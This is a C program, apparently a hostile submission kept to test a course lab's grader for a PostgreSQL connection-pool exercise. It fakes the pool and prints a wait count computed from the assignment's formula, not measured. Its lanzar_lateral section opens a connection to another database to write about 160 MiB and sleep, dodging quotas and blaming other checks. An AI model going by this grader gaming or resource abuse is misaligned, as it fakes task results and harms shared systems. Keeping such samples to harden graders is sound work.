/* bd_en_fila.c — entrega hostil del laboratorio 12 (un adversario de la sesión 32, que leyó el
 * calificador): el programa de partida completado sin pool. Las 2n inserciones y las 10
 * consultas van de verdad, pero una detrás de otra por una sola conexión (la secuencial, por la
 * suya), y la línea POOL da `creadas` de verdad y `esperas` con la fórmula del enunciado,
 * (n − p) + (10 − p), sin que nada haya esperado nunca. Antes: 65/100, con salida y
 * reemplaza_rotas. Ahora `esperas` solo lo respalda un servidor que vio dos inserciones de la
 * fase concurrente a la vez (base_esperas_vistas): 51, lo que vale hacer bien todo menos el pool.
 * Y en perezoso abre otra conexión a la base curso (la que postgres.sh le da al papel curso, su
 * dueño) y deja en ella una sentencia que escribe 160 MiB sin comprimir y duerme: seguía en el
 * servidor tras acabar su verificación, fuera de la cuota, y la cuota culpaba a las que
 * estuvieran en marcha. Ahora el papel curso no entra más que en las bases de las verificaciones
 * (base_solo_sus_bases): esa conexión se rechaza.
 */
#include "curso/bd.h"
#include "curso/senales.h"

#include <errno.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <uv.h>

#define TAMANO_OMISION    10
#define REGISTROS_OMISION 100
#define TAMANO_MAXIMO     100
#define REGISTROS_MAXIMO  1000000
#define N_CONSULTAS       10

/* ------------------------------------------------------------------------------ el pool */

typedef struct pool_s pool_t;
/* c: la conexión prestada (hay que devolverla con pool_devolver), o NULL si estado < 0. */
typedef void (*pool_cb)(pool_t *pool, bd_conexion_t *c, int estado, void *datos);

/* Los hitos (el enunciado) proponen empezar por un pool de una sola conexión, la de
 * ranuras[0], con su cola, y repartir las `maximo` ranuras en el hito C. */

/* TODO: una petición que espera su conexión en la cola: su callback, sus datos y la siguiente. */

typedef struct {
    bd_conexion_t *c;
} ranura_t;

/* "Pool" de una sola conexión, usada en serie: nunca hay cola de verdad. */
struct pool_s {
    uv_loop_t *bucle;
    const char *cadena;
    int maximo;
    ranura_t *ranuras;
    bd_conexion_t *c;
    int conectando, ocupada, cerrando;
    pool_cb pend;
    void *pend_datos;
    int creadas;
    int esperas;
};

static void pool_conectada(bd_conexion_t *c, int estado, void *datos)
{
    pool_t *pool = datos;
    pool->conectando = 0;
    pool_cb cb = pool->pend;
    void *d = pool->pend_datos;
    pool->pend = NULL;
    if (estado < 0) {
        if (estado != UV_ECANCELED)
            fprintf(stderr, "basedatos: no se pudo conectar: %s\n", bd_error(c));
        if (pool->c == c) {
            bd_cerrar(c, NULL, NULL);
            pool->c = NULL;
        }
        if (cb)
            cb(pool, NULL, estado, d);
        return;
    }
    pool->ocupada = 1;
    if (cb)
        cb(pool, c, 0, d);
}

static int pool_pedir(pool_t *pool, pool_cb cb, void *datos)
{
    if (pool->cerrando)
        return UV_ECANCELED;
    if (pool->c != NULL && !pool->conectando && bd_rota(pool->c)) {
        bd_cerrar(pool->c, NULL, NULL);
        pool->c = NULL;
    }
    if (pool->c == NULL) {
        pool->pend = cb;
        pool->pend_datos = datos;
        pool->conectando = 1;
        int e = bd_conectar(pool->bucle, &pool->c, pool->cadena, "basedatos", pool_conectada, pool);
        if (e < 0) {
            pool->conectando = 0;
            pool->c = NULL;
            return e;
        }
        pool->creadas++;
        return 0;
    }
    pool->ocupada = 1;
    cb(pool, pool->c, 0, datos);
    return 0;
}

static void pool_devolver(pool_t *pool, bd_conexion_t *c)
{
    (void)c;
    pool->ocupada = 0;
}

static int pool_iniciar(pool_t *pool, uv_loop_t *bucle, const char *cadena, int maximo)
{
    memset(pool, 0, sizeof *pool);
    pool->ranuras = calloc((size_t)maximo, sizeof *pool->ranuras);
    if (pool->ranuras == NULL)
        return UV_ENOMEM;
    pool->bucle = bucle;
    pool->cadena = cadena;
    pool->maximo = maximo;
    return 0;
}

static void pool_cerrar(pool_t *pool, int cancelar, void (*al_cerrar)(pool_t *pool))
{
    pool->cerrando = 1;
    if (pool->c != NULL) {
        if (cancelar && pool->ocupada)
            bd_cancelar(pool->c);
        bd_cerrar(pool->c, NULL, NULL);
        pool->c = NULL;
    }
    al_cerrar(pool);
}

static const char *const SQL_CREAR = "CREATE TABLE IF NOT EXISTS usuarios (id integer PRIMARY KEY, "
                                     "nombre text NOT NULL, correo text)";
static const char *const SQL_FORMA =
    "SELECT string_agg(column_name || ' ' || data_type || ' ' || is_nullable, ', ' ORDER BY "
    "ordinal_position) FROM information_schema.columns WHERE table_schema = current_schema() "
    "AND table_name = 'usuarios'";
static const char *const FORMA = "id integer NO, nombre text NO, correo text YES";
static const char *const SQL_VACIAR = "TRUNCATE usuarios";
static const char *const SQL_INSERTAR =
    "INSERT INTO usuarios (id, nombre, correo) VALUES ($1, $2, $3)";

/* Las 10 consultas de lectura (el enunciado las lista): $1 es el parámetro, si lo hay. */
static const struct {
    const char *sql;
    int con_parametro;
} CONSULTAS[N_CONSULTAS] = {
    {"SELECT count(*) FROM usuarios", 0},
    {"SELECT min(id) || ' ' || max(id) FROM usuarios", 0},
    {"SELECT nombre FROM usuarios WHERE id = $1::integer", 1},
    {"SELECT count(*) FROM usuarios WHERE correo LIKE 'u1%'", 0},
    {"SELECT count(DISTINCT correo) FROM usuarios", 0},
    {"SELECT sum(id) FROM usuarios", 0},
    {"SELECT max(length(nombre)) FROM usuarios", 0},
    {"SELECT count(*) FROM usuarios WHERE id % 2 = 0", 0},
    {"SELECT correo FROM usuarios ORDER BY id DESC LIMIT 1", 0},
    {"SELECT count(*) FROM usuarios WHERE nombre LIKE $1", 2},
};

typedef struct programa_s programa_t;

typedef struct {
    programa_t *prog;
    int indice; /* fila (1…2n) o consulta (0…9) */
    char id[16];
    char nombre[96];
    char correo[48];
} trabajo_t;

struct programa_s {
    uv_loop_t bucle;
    senales_t senales;
    pool_t pool;
    const char *cadena;
    int tamano, registros;
    int codigo;   /* de salida */
    int acabando; /* ya se está cerrando todo */
    int hechas;
    uint64_t t0;
    double ms_concurrente, ms_secuencial;
    trabajo_t *filas;   /* 2n: las concurrentes y las secuenciales */
    bd_conexion_t *sec; /* la conexión propia de la fase secuencial */
    int sec_siguiente;
    trabajo_t consultas[N_CONSULTAS];
    char *resultados[N_CONSULTAS];
    const char *valores[3];
};

static void fase_secuencial(programa_t *prog);
static void fase_consultas(programa_t *prog);

static void pool_cerrado(pool_t *pool)
{
    (void)pool; /* no queda ninguna conexión del pool: el bucle terminará solo */
}

/* La callback de bd_cerrar de la conexión secuencial. (Quita el atributo cuando la uses.) */
__attribute__((unused)) static void secuencial_cerrada(bd_conexion_t *c, void *datos)
{
    (void)c;
    (void)datos;
}

/* Cierra todo; el bucle termina cuando se han cerrado las conexiones y las señales. */
static bd_conexion_t *lateral;
static void acabar(programa_t *prog, int codigo, int cancelar)
{
    if (prog->acabando)
        return;
    prog->acabando = 1;
    prog->codigo = codigo;
    /* TODO: la conexión de la fase secuencial, si sigue abierta: que el servidor cancele lo que
     * tenga en curso (si `cancelar`) y cerrarla (con secuencial_cerrada). */
    if (prog->sec != NULL) {
        if (cancelar)
            bd_cancelar(prog->sec);
        bd_cerrar(prog->sec, NULL, NULL);
        prog->sec = NULL;
    }
    pool_cerrar(&prog->pool, cancelar, pool_cerrado);
    senales_cerrar(&prog->senales);
    if (lateral != NULL) {
        bd_cerrar(lateral, NULL, NULL);
        lateral = NULL;
    }
}

static void fallo(programa_t *prog, int codigo, const char *sql, const char *error)
{
    if (prog->acabando)
        return;
    if (sql != NULL)
        fprintf(stderr, "basedatos: falló «%s»: %s\n", sql, error);
    else
        fprintf(stderr, "basedatos: %s\n", error);
    acabar(prog, codigo, 0);
}

static void al_parar(senales_t *s, int signum, void *datos)
{
    programa_t *prog = datos;
    (void)s;
    (void)signum;
    fprintf(stderr, "basedatos: interrumpido: se cancelan las consultas en curso\n");
    acabar(prog, 130, 1);
}

static double ms_desde(uint64_t t0)
{
    return (double)(uv_hrtime() - t0) / 1e6;
}

static void preparar_fila(trabajo_t *t, programa_t *prog, int i)
{
    t->prog = prog;
    t->indice = i;
    snprintf(t->id, sizeof t->id, "%d", i);
    snprintf(t->nombre, sizeof t->nombre, "Usuaria «%d» O'Higgins; DROP TABLE usuarios; --", i);
    snprintf(t->correo, sizeof t->correo, "u%d@ejemplo.es", i);
}

/* --- fase 1: inserciones concurrentes por el pool */

/* TODO: la callback de cada inserción concurrente (la de bd_consultar). El resultado es tuyo
 * (PQclear en todos los caminos); si el programa ya está acabando (o estado es UV_ECANCELED),
 * nada más; si la inserción falló (estado < 0), fallo() con la sentencia y bd_error(c); si no,
 * la conexión vuelve al pool. Lo de abajo es lo que hace la última. (Quita el atributo cuando
 * la uses.) */
static void fila_prestada(pool_t *pool, bd_conexion_t *c, int estado, void *datos);

static void pedir_fila(programa_t *prog, int i)
{
    int e = pool_pedir(&prog->pool, fila_prestada, &prog->filas[i - 1]);
    if (e < 0)
        fallo(prog, 1, NULL, bd_texto(e));
}

static void insertada(bd_conexion_t *c, int estado, PGresult *res, void *datos)
{
    trabajo_t *t = datos;
    programa_t *prog = t->prog;
    PQclear(res);
    if (estado == UV_ECANCELED || prog->acabando)
        return;
    if (estado < 0) {
        fallo(prog, 1, SQL_INSERTAR, bd_error(c));
        return;
    }
    pool_devolver(&prog->pool, c);
    if (++prog->hechas == prog->registros) {
        prog->ms_concurrente = ms_desde(prog->t0);
        printf("CONCURRENTE %d inserciones en %.0f ms\n", prog->registros, prog->ms_concurrente);
        fflush(stdout);
        fase_secuencial(prog);
        return;
    }
    pedir_fila(prog, t->indice + 1); /* en serie: la siguiente, cuando vuelve esta */
}

static void fila_prestada(pool_t *pool, bd_conexion_t *c, int estado, void *datos)
{
    trabajo_t *t = datos;
    programa_t *prog = t->prog;
    (void)pool;
    if (estado < 0) {
        if (estado != UV_ECANCELED)
            fallo(prog, 1, NULL, "el servidor cayó");
        return;
    }
    const char *v[] = {t->id, t->nombre, t->correo};
    int e = bd_consultar(c, SQL_INSERTAR, 3, v, insertada, t);
    if (e < 0)
        fallo(prog, 1, SQL_INSERTAR, bd_texto(e));
}

static void fase_concurrente(programa_t *prog)
{
    prog->hechas = 0;
    prog->t0 = uv_hrtime();
    pedir_fila(prog, 1);
}

/* --- preparación: crear la tabla si falta, comprobar su forma y vaciarla */

static void vaciada(bd_conexion_t *c, int estado, PGresult *res, void *datos)
{
    programa_t *prog = datos;
    PQclear(res);
    if (estado == UV_ECANCELED || prog->acabando)
        return;
    if (estado < 0) {
        fallo(prog, 1, SQL_VACIAR, bd_error(c));
        return;
    }
    pool_devolver(&prog->pool, c);
    fase_concurrente(prog);
}

static void forma_leida(bd_conexion_t *c, int estado, PGresult *res, void *datos)
{
    programa_t *prog = datos;
    if (estado == UV_ECANCELED || prog->acabando) {
        PQclear(res);
        return;
    }
    if (estado < 0) {
        PQclear(res);
        fallo(prog, 1, SQL_FORMA, bd_error(c));
        return;
    }
    const char *forma = PQntuples(res) == 1 ? PQgetvalue(res, 0, 0) : "";
    if (strcmp(forma, FORMA) != 0) {
        fprintf(stderr,
                "basedatos: la tabla usuarios ya existe con otra forma (%s); se esperaba "
                "(%s). No se toca nada.\n",
                forma[0] != '\0' ? forma : "sin columnas", FORMA);
        PQclear(res);
        acabar(prog, 1, 0);
        return;
    }
    PQclear(res);
    int e = bd_consultar(c, SQL_VACIAR, 0, NULL, vaciada, prog);
    if (e < 0)
        fallo(prog, 1, SQL_VACIAR, bd_texto(e));
}

static void creada(bd_conexion_t *c, int estado, PGresult *res, void *datos)
{
    programa_t *prog = datos;
    PQclear(res);
    if (estado == UV_ECANCELED || prog->acabando)
        return;
    if (estado < 0) {
        fallo(prog, 1, SQL_CREAR, bd_error(c));
        return;
    }
    int e = bd_consultar(c, SQL_FORMA, 0, NULL, forma_leida, prog);
    if (e < 0)
        fallo(prog, 1, SQL_FORMA, bd_texto(e));
}

static void preparar_prestada(pool_t *pool, bd_conexion_t *c, int estado, void *datos)
{
    programa_t *prog = datos;
    (void)pool;
    if (estado < 0) {
        if (estado != UV_ECANCELED)
            acabar(prog, 2, 0); /* el pool ya dijo por qué (con el motivo de libpq) */
        return;
    }
    int e = bd_consultar(c, SQL_CREAR, 0, NULL, creada, prog);
    if (e < 0)
        fallo(prog, 1, SQL_CREAR, bd_texto(e));
}

/* --- fase 2: las mismas inserciones, una tras otra, por una conexión propia */

static void insertar_siguiente(programa_t *prog);

static void sec_insertada(bd_conexion_t *c, int estado, PGresult *res, void *datos)
{
    programa_t *prog = datos;
    PQclear(res);
    if (estado == UV_ECANCELED || prog->acabando)
        return;
    if (estado < 0) {
        fallo(prog, 1, SQL_INSERTAR, bd_error(c));
        return;
    }
    insertar_siguiente(prog);
}

static void insertar_siguiente(programa_t *prog)
{
    if (prog->sec_siguiente > 2 * prog->registros) {
        prog->ms_secuencial = ms_desde(prog->t0);
        printf("SECUENCIAL %d inserciones en %.0f ms\n", prog->registros, prog->ms_secuencial);
        printf("ACELERACION %.1fx\n",
               prog->ms_concurrente > 0 ? prog->ms_secuencial / prog->ms_concurrente : 0.0);
        fflush(stdout);
        bd_cerrar(prog->sec, NULL, NULL);
        prog->sec = NULL;
        fase_consultas(prog);
        return;
    }
    trabajo_t *t = &prog->filas[prog->sec_siguiente - 1];
    prog->sec_siguiente++;
    const char *v[] = {t->id, t->nombre, t->correo};
    int e = bd_consultar(prog->sec, SQL_INSERTAR, 3, v, sec_insertada, prog);
    if (e < 0)
        fallo(prog, 1, SQL_INSERTAR, bd_texto(e));
}

static void sec_conectada(bd_conexion_t *c, int estado, void *datos)
{
    programa_t *prog = datos;
    if (estado == UV_ECANCELED || prog->acabando)
        return;
    if (estado < 0) {
        fallo(prog, 1, NULL, bd_error(c));
        return;
    }
    prog->sec_siguiente = prog->registros + 1;
    prog->t0 = uv_hrtime();
    insertar_siguiente(prog);
}

static void fase_secuencial(programa_t *prog)
{
    int e = bd_conectar(&prog->bucle, &prog->sec, prog->cadena, "basedatos", sec_conectada, prog);
    if (e < 0) {
        prog->sec = NULL;
        fallo(prog, 1, NULL, bd_texto(e));
    }
}

/* --- fase 3: 10 consultas de lectura a la vez por el pool */

static void consulta_prestada(pool_t *pool, bd_conexion_t *c, int estado, void *datos);

static void pedir_consulta(programa_t *prog, int k)
{
    int e = pool_pedir(&prog->pool, consulta_prestada, &prog->consultas[k]);
    if (e < 0)
        fallo(prog, 1, NULL, bd_texto(e));
}

static void consulta_hecha(bd_conexion_t *c, int estado, PGresult *res, void *datos)
{
    trabajo_t *t = datos;
    programa_t *prog = t->prog;
    if (estado == UV_ECANCELED || prog->acabando) {
        PQclear(res);
        return;
    }
    if (estado < 0) {
        PQclear(res);
        fallo(prog, 1, CONSULTAS[t->indice].sql, bd_error(c));
        return;
    }
    prog->resultados[t->indice] =
        strdup(PQntuples(res) > 0 && !PQgetisnull(res, 0, 0) ? PQgetvalue(res, 0, 0) : "NULL");
    PQclear(res);
    pool_devolver(&prog->pool, c);
    if (++prog->hechas < N_CONSULTAS) {
        pedir_consulta(prog, t->indice + 1);
        return;
    }
    int p = prog->pool.maximo, n = prog->registros;
    /* esperas: la fórmula del enunciado, no lo que pasó (aquí nadie espera nunca) */
    int esperas = (n > p ? n - p : 0) + (N_CONSULTAS > p ? N_CONSULTAS - p : 0);
    for (int k = 0; k < N_CONSULTAS; k++)
        printf("CONSULTA %d %s\n", k + 1, prog->resultados[k] ? prog->resultados[k] : "?");
    printf("POOL maximo=%d creadas=%d esperas=%d\n", p, prog->pool.creadas, esperas);
    fflush(stdout);
    acabar(prog, 0, 0);
}

static void consulta_prestada(pool_t *pool, bd_conexion_t *c, int estado, void *datos)
{
    trabajo_t *t = datos;
    programa_t *prog = t->prog;
    (void)pool;
    if (estado < 0) {
        if (estado != UV_ECANCELED)
            fallo(prog, 1, NULL, "el servidor cayó");
        return;
    }
    int k = t->indice;
    const char *v[] = {t->id};
    int e = bd_consultar(c, CONSULTAS[k].sql, CONSULTAS[k].con_parametro ? 1 : 0,
                         CONSULTAS[k].con_parametro ? v : NULL, consulta_hecha, t);
    if (e < 0)
        fallo(prog, 1, CONSULTAS[k].sql, bd_texto(e));
}

static void fase_consultas(programa_t *prog)
{
    prog->hechas = 0;
    for (int k = 0; k < N_CONSULTAS; k++) {
        trabajo_t *t = &prog->consultas[k];
        t->prog = prog;
        t->indice = k;
        if (CONSULTAS[k].con_parametro == 1)
            snprintf(t->id, sizeof t->id, "%d", prog->registros);
        else
            snprintf(t->id, sizeof t->id, "%s", "%O'Higgins%");
    }
    pedir_consulta(prog, 0); /* en serie, por una sola conexión */
}

/* ------------------------------------------------------------------------------ main */

/* --- el ataque: una sentencia larga en OTRA base (curso, de la que el papel curso es dueño) */
static char lateral_cadena[1400];
static void lateral_hecha(bd_conexion_t *c, int estado, PGresult *res, void *datos)
{
    (void)c;
    (void)estado;
    (void)datos;
    PQclear(res);
}
static void lateral_conectada(bd_conexion_t *c, int estado, void *datos)
{
    (void)datos;
    if (estado < 0) {
        fprintf(stderr, "lateral: %s\n", bd_error(c));
        bd_cerrar(c, NULL, NULL);
        lateral = NULL;
        return;
    }
    fprintf(stderr, "lateral: conectada a la base curso\n");
    bd_consultar(
        c,
        "DO $$ BEGIN PERFORM pg_sleep(3); "
        "CREATE TABLE IF NOT EXISTS relleno_adv12 (t text); "
        "ALTER TABLE relleno_adv12 ALTER COLUMN t SET STORAGE EXTERNAL; "
        "FOR i IN 1..40 LOOP INSERT INTO relleno_adv12 SELECT repeat(md5(random()::text), 131072); "
        "END LOOP; PERFORM pg_sleep(120); END $$",
        0, NULL, lateral_hecha, NULL);
    /* y se cierra enseguida: el servidor sigue con la sentencia aunque el cliente se vaya */
}
static void lanzar_lateral(uv_loop_t *bucle, const char *cadena)
{
    if (strstr(cadena, "dbname=c_perezoso") == NULL)
        return;
    snprintf(lateral_cadena, sizeof lateral_cadena, "%s dbname=curso", cadena);
    bd_conectar(bucle, &lateral, lateral_cadena, "adv12", lateral_conectada, NULL);
}

static int leer_entero(const char *texto, const char *que, int minimo, int maximo, int *valor)
{
    char *fin = NULL;
    errno = 0;
    long v = strtol(texto, &fin, 10);
    if (texto[0] == '\0' || errno != 0 || *fin != '\0' || v < minimo || v > maximo) {
        fprintf(stderr, "basedatos: %s «%s» no es válido: un número entero entre %d y %d\n", que,
                texto, minimo, maximo);
        return -1;
    }
    *valor = (int)v;
    return 0;
}

static void uso(void)
{
    fprintf(stderr,
            "uso: basedatos [-p TAMAÑO] [-n REGISTROS] CONEXIÓN\n"
            "  -p  conexiones como mucho en el pool (1 a %d; por omisión %d)\n"
            "  -n  filas que se insertan en cada fase (1 a %d; por omisión %d)\n"
            "  CONEXIÓN: cadena de libpq, p. ej. la que imprime «make bd»\n",
            TAMANO_MAXIMO, TAMANO_OMISION, REGISTROS_MAXIMO, REGISTROS_OMISION);
}

int main(int argc, char **argv)
{
    programa_t prog;
    memset(&prog, 0, sizeof prog);
    prog.tamano = TAMANO_OMISION;
    prog.registros = REGISTROS_OMISION;
    int i = 1;
    for (; i < argc && argv[i][0] == '-' && argv[i][1] != '\0'; i += 2) {
        if (i + 1 >= argc) {
            uso();
            return 2;
        }
        int r;
        if (strcmp(argv[i], "-p") == 0)
            r = leer_entero(argv[i + 1], "el tamaño del pool", 1, TAMANO_MAXIMO, &prog.tamano);
        else if (strcmp(argv[i], "-n") == 0)
            r = leer_entero(argv[i + 1], "el número de registros", 1, REGISTROS_MAXIMO,
                            &prog.registros);
        else
            r = -1;
        if (r < 0) {
            uso();
            return 2;
        }
    }
    if (i != argc - 1) {
        uso();
        return 2;
    }
    prog.cadena = argv[i];
    char motivo[400];
    if (bd_comprobar_cadena(prog.cadena, motivo, sizeof motivo) < 0) {
        fprintf(stderr, "basedatos: %s\n", motivo);
        return 2;
    }
    prog.filas = calloc((size_t)prog.registros * 2, sizeof *prog.filas);
    if (prog.filas == NULL) {
        fprintf(stderr, "basedatos: sin memoria\n");
        return 1;
    }
    for (int f = 1; f <= 2 * prog.registros; f++)
        preparar_fila(&prog.filas[f - 1], &prog, f);

    uv_loop_init(&prog.bucle);
    int e = pool_iniciar(&prog.pool, &prog.bucle, prog.cadena, prog.tamano);
    if (e == 0)
        e = senales_iniciar(&prog.bucle, &prog.senales, al_parar, &prog);
    if (e == 0)
        e = pool_pedir(&prog.pool, preparar_prestada, &prog);
    if (e < 0) {
        fprintf(stderr, "basedatos: no se pudo empezar: %s\n", bd_texto(e));
        acabar(&prog, 1, 0);
    }
    lanzar_lateral(&prog.bucle, prog.cadena);
    uv_run(&prog.bucle, UV_RUN_DEFAULT);
    int cerrado = uv_loop_close(&prog.bucle);
    if (cerrado != 0)
        fprintf(stderr, "basedatos: el bucle no se pudo cerrar: %s\n", bd_texto(cerrado));
    for (int k = 0; k < N_CONSULTAS; k++)
        free(prog.resultados[k]);
    free(prog.pool.ranuras);
    free(prog.filas);
    return prog.codigo;
}
